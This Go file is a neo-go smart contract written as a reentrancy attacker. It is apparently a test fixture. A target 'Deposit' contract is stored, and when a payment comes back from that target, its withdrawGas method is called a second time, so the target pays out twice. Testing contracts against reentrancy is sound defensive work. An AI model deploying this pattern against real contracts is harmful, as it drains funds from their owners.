package reentrant

import (
	"github.com/nspcc-dev/neo-go/pkg/interop"
	"github.com/nspcc-dev/neo-go/pkg/interop/contract"
	"github.com/nspcc-dev/neo-go/pkg/interop/native/gas"
	"github.com/nspcc-dev/neo-go/pkg/interop/runtime"
	"github.com/nspcc-dev/neo-go/pkg/interop/storage"
)

const (
	targetKey = "target"
	doneKey   = "done"
)

// SetTarget sets the Deposit contract to attack.
func SetTarget(h interop.Hash160) {
	storage.Put(storage.GetContext(), targetKey, h)
}

// Deposit pushes GAS owned by this contract to the target.
func Deposit(amount int) {
	self := runtime.GetExecutingScriptHash()
	if !gas.Transfer(self, getTarget(storage.GetReadOnlyContext()), amount, nil) {
		panic("deposit failed")
	}
}

// Withdraw requests GAS from the target.
func Withdraw(amount int) {
	self := runtime.GetExecutingScriptHash()
	contract.Call(getTarget(storage.GetReadOnlyContext()), "withdrawGas", contract.All, self, amount)
}

// OnNEP17Payment requests the same amount from the target once more when the
// payment comes from the target.
func OnNEP17Payment(from interop.Hash160, amount int, data any) {
	ctx := storage.GetContext()
	target := getTarget(ctx)
	if !from.Equals(target) || storage.Get(ctx, doneKey) != nil {
		return
	}

	storage.Put(ctx, doneKey, true)

	self := runtime.GetExecutingScriptHash()
	contract.Call(target, "withdrawGas", contract.All, self, amount)
}

func getTarget(ctx storage.Context) interop.Hash160 {
	return storage.Get(ctx, targetKey).(interop.Hash160)
}
